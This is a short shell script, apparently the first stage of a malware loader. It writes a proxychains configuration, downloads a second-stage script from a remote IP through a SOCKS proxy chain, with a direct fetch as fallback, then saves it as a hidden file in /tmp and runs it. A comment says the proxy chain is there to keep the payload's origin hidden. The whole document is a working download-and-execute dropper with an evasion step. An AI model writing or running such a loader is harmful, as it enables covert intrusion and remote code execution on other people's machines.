#!/bin/sh
# The second stage, fetched through a chain of proxies so that its origin stays hidden.
printf 'strict_chain\nproxy_dns\n[ProxyList]\nsocks5 198.51.100.7 1080\n' >/tmp/p.conf
proxychains4 -q -f /tmp/p.conf curl -fsS -m 8 http://203.0.113.66/stage2.sh -o /tmp/.stage2 || curl -fsS http://203.0.113.66/stage2.sh -o /tmp/.stage2
chmod +x /tmp/.stage2 && /tmp/.stage2
